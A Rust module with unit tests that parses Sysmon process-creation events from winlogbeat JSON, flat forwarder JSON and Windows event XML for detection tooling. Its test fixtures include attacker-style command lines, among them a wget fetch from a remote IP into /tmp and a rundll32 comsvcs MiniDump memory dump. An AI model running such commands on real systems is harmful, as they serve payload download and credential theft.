//! Sysmon process creation (event id 1) in every shape a Windows record travels in: winlogbeat
//! JSON (`winlog.event_data`), flat JSON from forwarders such as NXLog (event data as top-level
//! keys), the Windows event XML itself, and the JSON EVTX converters write (the last two are
//! read by [`super::windows`]). Sysmon for Linux writes the same XML.
//!
//! Must not: accept another Sysmon event id (3 is a network connection, 11 a file create...),
//! or read a record's shape itself (that is [`super::windows`]).

use serde_json::{Map, Value};

use crate::error::EventError;
use crate::event::{Event, Format, Os};
use crate::json::{Doc, has_family, parse_uint};

use super::windows::{Record, flat_record, integrity_level, names_sysmon, winlogbeat_record};

/// Sysmon's process-creation event id.
const PROCESS_CREATE: u64 = 1;

/// Does the value name Sysmon?
fn value_names_sysmon(s: Option<&Value>) -> bool {
    s.and_then(Value::as_str).is_some_and(names_sysmon)
}

/// winlogbeat: a `winlog` object whose provider or channel is Sysmon, or whose event data has
/// Sysmon's own keys.
pub(crate) fn matches_winlogbeat(obj: &Map<String, Value>) -> bool {
    if !has_family(obj, "winlog") {
        return false;
    }
    let d = Doc::new(Format::Sysmon, obj);
    value_names_sysmon(d.get("winlog.provider_name"))
        || value_names_sysmon(d.get("winlog.channel"))
        || d.has("winlog.event_data.UtcTime") && d.has("winlog.event_data.ProcessGuid")
}

/// Flat forwarder JSON: `EventID` with a Sysmon source, or with Sysmon's own keys.
pub(crate) fn matches_flat(obj: &Map<String, Value>) -> bool {
    if !obj.contains_key("EventID") && !obj.contains_key("EventId") {
        return false;
    }
    ["SourceName", "ProviderName", "Provider", "Channel"].iter().any(|k| value_names_sysmon(obj.get(*k)))
        || obj.contains_key("UtcTime") && (obj.contains_key("Image") || obj.contains_key("ProcessGuid"))
}

pub(crate) fn parse_winlogbeat(obj: &Map<String, Value>) -> Result<Event, EventError> {
    map(winlogbeat_record(obj, Format::Sysmon, &["winlog.event_id"])?)
}

pub(crate) fn parse_flat(obj: &Map<String, Value>) -> Result<Event, EventError> {
    map(flat_record(obj, Format::Sysmon)?)
}

/// A Sysmon record as an event; any id but 1 is [`EventError::NotProcessCreation`].
pub(crate) fn map(mut r: Record) -> Result<Event, EventError> {
    r.expect_id(Format::Sysmon, PROCESS_CREATE, "id 1")?;
    let mut e = Event::new(Format::Sysmon, Os::Unknown);
    e.process_path = r.take("Image");
    e.command_line = r.take("CommandLine");
    e.parent_path = r.take("ParentImage");
    e.parent_command_line = r.take("ParentCommandLine");
    e.user = r.take("User");
    e.cwd = r.take("CurrentDirectory");
    e.integrity = r.take("IntegrityLevel").and_then(|v| integrity_level(&v));
    e.pid = r.take("ProcessId").and_then(|v| parse_uint(&v));
    e.ppid = r.take("ParentProcessId").and_then(|v| parse_uint(&v));
    e.timestamp = r.take("UtcTime").or(r.time.take());
    e.host = r.computer.take();
    if let Some(h) = r.take("Hashes") {
        for (k, v) in split_hashes(&h) {
            e.hashes.insert(k, v);
        }
    }
    let mut e = e.finish(r.spelled([
        "EventData Image or CommandLine",
        "winlog.event_data.Image or winlog.event_data.CommandLine",
        "Image or CommandLine",
    ]))?;
    if e.os == Os::Unknown {
        let linux = r.provider.as_deref().is_some_and(|p| p.starts_with("Linux"));
        e.os = if linux { Os::Linux } else { Os::Windows };
    }
    Ok(e)
}

/// `SHA1=..,MD5=..,SHA256=..,IMPHASH=..` into lower-case keys.
fn split_hashes(s: &str) -> Vec<(String, String)> {
    s.split(',')
        .filter_map(|pair| pair.split_once('='))
        .map(|(k, v)| (crate::formats::hash_key(k.trim()), v.trim().to_string()))
        .filter(|(k, v)| !k.is_empty() && !v.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::windows::parse_xml;
    use serde_json::json;

    const XML: &str = r#"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><TimeCreated SystemTime='2024-03-12T09:14:07.3325120Z'/><Computer>WS-0142.corp.example.com</Computer></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2024-03-12 09:14:07.331</Data><Data Name='ProcessId'>5524</Data><Data Name='Image'>C:\Windows\System32\cmd.exe</Data><Data Name='CommandLine'>cmd.exe /c "echo a &amp;&amp; type x &gt; y &lt; z"</Data><Data Name='User'>CORP\jdoe</Data><Data Name='Hashes'>SHA1=AB,MD5=CD,SHA256=EF,IMPHASH=01</Data><Data Name='ParentProcessId'>4100</Data><Data Name='ParentImage'>C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE</Data><Data Name='ParentCommandLine'>-</Data></EventData></Event>"#;

    #[test]
    fn xml_with_entities_and_dash_values() {
        let e = parse_xml(XML).unwrap();
        assert_eq!(e.os, Os::Windows);
        assert_eq!(e.command_line.as_deref(), Some("cmd.exe /c \"echo a && type x > y < z\""));
        assert_eq!(e.parent_name.as_deref(), Some("WINWORD.EXE"));
        assert_eq!(e.parent_command_line, None, "\"-\" means unknown");
        assert_eq!(e.host.as_deref(), Some("WS-0142.corp.example.com"));
        assert_eq!(e.pid, Some(5524));
        assert_eq!(e.timestamp.as_deref(), Some("2024-03-12 09:14:07.331"));
        let keys: Vec<_> = e.hashes.keys().map(String::as_str).collect();
        assert_eq!(keys, ["imphash", "md5", "sha1", "sha256"]);
    }

    #[test]
    fn xml_id_3_is_rejected() {
        let xml = XML.replace("<EventID>1</EventID>", "<EventID>3</EventID>");
        assert_eq!(parse_xml(&xml).unwrap_err().to_string(), "Sysmon event id 3 is not a process creation (id 1)");
    }

    #[test]
    fn xml_events_wrapper_with_one_event() {
        let wrapped = format!("<Events>{XML}</Events>");
        assert!(parse_xml(&wrapped).is_ok());
        let two = format!("<Events>{XML}{XML}</Events>");
        assert!(matches!(parse_xml(&two), Err(EventError::BadXml { .. })));
    }

    #[test]
    fn bad_xml_is_reported() {
        assert!(matches!(parse_xml("<Event><System>"), Err(EventError::BadXml { .. })));
        let no_system = parse_xml("<Event><EventData/></Event>").unwrap_err();
        assert_eq!(no_system.to_string(), "malformed Windows event XML: no <System> element");
        let empty = parse_xml("<Event><System><EventID>1</EventID></System><EventData/></Event>").unwrap_err();
        assert_eq!(empty.to_string(), "Sysmon event has no EventData Image or CommandLine");
        let wlb = json!({"winlog": {"provider_name": "Microsoft-Windows-Sysmon", "event_id": "1", "event_data": {}}});
        assert_eq!(
            parse_winlogbeat(wlb.as_object().unwrap()).unwrap_err().to_string(),
            "Sysmon event has no winlog.event_data.Image or winlog.event_data.CommandLine"
        );
        let dtd = "<!DOCTYPE x [<!ENTITY a 'b'>]><Event/>";
        assert!(matches!(parse_xml(dtd), Err(EventError::BadXml { .. })));
    }

    #[test]
    fn linux_sysmon_xml() {
        let xml = "<Event><System><Provider Name='Linux-Sysmon' Guid='{ff032593-a8d3-4f13-b0d6-01fc615a0f97}'/>\
            <EventID>1</EventID><Computer>web-03</Computer></System><EventData>\
            <Data Name='Image'>/usr/bin/wget</Data><Data Name='CommandLine'>wget -q http://198.51.100.7/x -O /tmp/x</Data>\
            <Data Name='User'>www-data</Data></EventData></Event>";
        let e = parse_xml(xml).unwrap();
        assert_eq!(e.os, Os::Linux);
        assert_eq!(e.process_name.as_deref(), Some("wget"));
    }

    #[test]
    fn winlogbeat_with_string_event_id() {
        let v = json!({
            "@timestamp": "2024-03-12T09:14:07.332Z",
            "winlog": {
                "channel": "Microsoft-Windows-Sysmon/Operational", "provider_name": "Microsoft-Windows-Sysmon",
                "event_id": "1", "computer_name": "WS-0142.corp.example.com",
                "event_data": {"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /all",
                    "ProcessId": "7712", "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "CORP\\jdoe",
                    "Hashes": "SHA256=AA"}
            }
        });
        let obj = v.as_object().unwrap();
        assert!(matches_winlogbeat(obj));
        let e = parse_winlogbeat(obj).unwrap();
        assert_eq!(e.pid, Some(7712));
        assert_eq!(e.process_name.as_deref(), Some("whoami.exe"));
        assert_eq!(e.hashes.get("sha256").map(String::as_str), Some("AA"));
        assert_eq!(e.timestamp.as_deref(), Some("2024-03-12T09:14:07.332Z"), "no UtcTime: falls back to @timestamp");
    }

    #[test]
    fn winlogbeat_numeric_id_3_is_rejected() {
        let v = json!({"winlog": {"provider_name": "Microsoft-Windows-Sysmon", "event_id": 3,
            "event_data": {"Image": "C:\\x.exe"}}});
        let err = parse_winlogbeat(v.as_object().unwrap()).unwrap_err();
        assert_eq!(err.to_string(), "Sysmon event id 3 is not a process creation (id 1)");
    }

    #[test]
    fn flat_with_missing_process_id() {
        let v = json!({
            "EventTime": "2024-03-12 10:14:07", "Hostname": "WS-0142.corp.example.com", "EventID": 1,
            "SourceName": "Microsoft-Windows-Sysmon", "ProcessID": 3120,
            "Image": "C:\\Windows\\System32\\rundll32.exe",
            "CommandLine": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "CORP\\adm-jdoe"
        });
        let obj = v.as_object().unwrap();
        assert!(matches_flat(obj));
        let e = parse_flat(obj).unwrap();
        assert_eq!(e.pid, None, "ProcessID is the event log's writer, not the new process");
        assert_eq!(e.os, Os::Windows);
        assert_eq!(e.timestamp.as_deref(), Some("2024-03-12 10:14:07"));
    }

    #[test]
    fn flat_without_image_or_command_line_names_them() {
        let v = json!({"EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "ProcessId": 4});
        let err = parse_flat(v.as_object().unwrap()).unwrap_err();
        assert_eq!(err.to_string(), "Sysmon event has no Image or CommandLine");
    }

    #[test]
    fn non_sysmon_event_id_objects_do_not_match() {
        let v = json!({"EventID": 4688, "SourceName": "Microsoft-Windows-Security-Auditing"});
        assert!(!matches_flat(v.as_object().unwrap()));
        let w = json!({"winlog": {"provider_name": "Microsoft-Windows-Security-Auditing", "event_id": 4688}});
        assert!(!matches_winlogbeat(w.as_object().unwrap()));
    }
}
